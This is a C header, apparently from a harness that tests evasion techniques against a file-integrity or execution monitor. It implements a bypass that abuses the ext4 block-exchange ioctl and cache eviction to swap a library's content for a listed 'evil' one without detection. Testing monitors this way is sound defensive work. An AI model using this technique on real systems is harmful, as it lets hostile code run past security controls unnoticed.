/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * ext4 exchanges the blocks of two files, for defragmenting (EXT4_IOC_MOVE_EXT): the one keeps its
 * data, the other is left with zeros. A library that differs from a listed one only behind its end,
 * where the listed one has zeros, becomes that one.
 */
#ifndef BYPASS_MOVE_EXTENT_H
#define BYPASS_MOVE_EXTENT_H

#include <linux/types.h>
#include <sys/ioctl.h>

#include "technique.h"

#define PAGE 4096UL

struct move_extent {
	__u32 reserved;
	__u32 donor_fd;
	__u64 orig_start;
	__u64 donor_start;
	__u64 len;
	__u64 moved_len;
};

#define EXT4_IOC_MOVE_EXT _IOWR('f', 15, struct move_extent)

/* The library and a page more. */
static inline struct bytes longer(const char *name, char filling)
{
	struct bytes b = load(content(name));
	size_t whole = (b.len + PAGE - 1) / PAGE * PAGE;
	struct bytes to = {calloc(1, whole + PAGE), whole + PAGE};

	memcpy(to.at, b.at, b.len);
	memset(to.at + whole, filling, PAGE);
	return to;
}

/* What @target's last page will be read as. */
static inline char last_byte(const char *target)
{
	int fd = open(target, O_RDONLY | O_CLOEXEC);
	struct stat st;
	char c;

	must(fd >= 0 && !fstat(fd, &st) && pread(fd, &c, 1, st.st_size - 1) == 1, target);
	close(fd);
	return c;
}

/* The library, a page, and what is listed: the same with zeros there. It runs, and may be known. */
static inline void put_longer(void)
{
	struct bytes b = longer("LIBRARY", 'x');

	put("listed", longer("EVIL_LIBRARY", 0));
	list_file("listed");
	put("target", b);
	put("other", b);
	settle();
	must(!use_unheard("target") && !use_unheard("target"), "the library runs");
}

/* Leave zeros of the last page. */
static inline void exchange(void)
{
	int fd = open_to_change("other"), donor = open_to_change("target");
	struct move_extent move = {.donor_fd = donor};
	struct stat st;

	must(!fstat(fd, &st), "fstat");
	move.orig_start = move.donor_start = (st.st_size - PAGE) / st.st_blksize;
	move.len = PAGE / st.st_blksize;
	must(!ioctl(fd, EXT4_IOC_MOVE_EXT, &move), "EXT4_IOC_MOVE_EXT");
	close(fd);
	close(donor);
}

/* What memory still has of it is what was there before: let go of that, until the zeros show. */
static inline void read_anew(const char *target)
{
	int fd = open(target, O_RDONLY | O_CLOEXEC), tries;

	must(fd >= 0, target);
	for (tries = 0; tries < 100 && last_byte(target); tries++)
		must(!fsync(fd) && !posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED), "fadvise");
	must(!last_byte(target), "the zeros show");
	close(fd);
}

#endif
